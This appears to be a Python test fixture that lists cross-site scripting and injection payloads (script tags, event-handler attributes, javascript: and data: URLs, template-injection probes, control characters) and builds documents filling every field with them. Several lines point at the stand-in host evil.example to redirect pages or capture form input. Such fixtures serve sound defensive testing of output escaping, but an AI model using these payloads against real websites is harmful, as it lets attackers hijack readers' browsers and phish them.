"""Texts that publishers could send to take over a reader's browser, and documents made of them."""

from __future__ import annotations

from typing import Any

from tests.desk.fictions import document

OWN = (
    "<script>document.title='taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "'\"><svg onload=\"document.title='taken'\">",
    "</title><script>document.title='taken'</script>",
    "</textarea></style></a></p><iframe srcdoc=\"<script>parent.document.title='taken'</script>\">",
    "javascript:document.title='taken'",
    "java\tscript:document.title='taken'",
    "data:text/html,<script>document.title='taken'</script>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "{{ 7 * 7 }}{% for x in y %}${7*7}#{7*7}<%= 7*7 %>",
    '<!--<script>--><base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">',
    "\u202egnp.exe\u202c \u2066isolate \u0000 nul \ufeff \ud7ff",
    "<form action=//evil.example><input name=q><button>Search</button></form>",
)


def hostile_document(number: int, text: str) -> dict[str, Any]:
    """A document that has ``text`` wherever a publisher's words or a reading of them are shown."""
    half = len(text) // 2
    entities = [
        {"start": 0, "end": half, "label": "PERSON", "text": text[:half], "canonical": text, "score": None},
        {"start": half, "end": len(text), "label": text, "text": text[half:], "canonical": None, "score": None},
    ]
    event = document(1)["events"][0] | dict.fromkeys(("type", "substance", "unit", "place", "date", "agency"), text)
    custody = document(1)["custody"] | dict.fromkeys(("url", "content_type", "robots", "address"), text)
    return document(
        number, text, title=text, author=text, url=text, published=text, language=text, kind=text, snippet=text,
        persons=[text], orgs=[text], places=[text], drugs=[text], selectors=[text], entities=entities, source=text,
        marks=[[0, half]], title_marks=[[half, len(text)]], events=[event | {"end": len(text)}],
        custody=custody | {"redirects": [{"url": text, "status": text}]},
    )  # fmt: skip
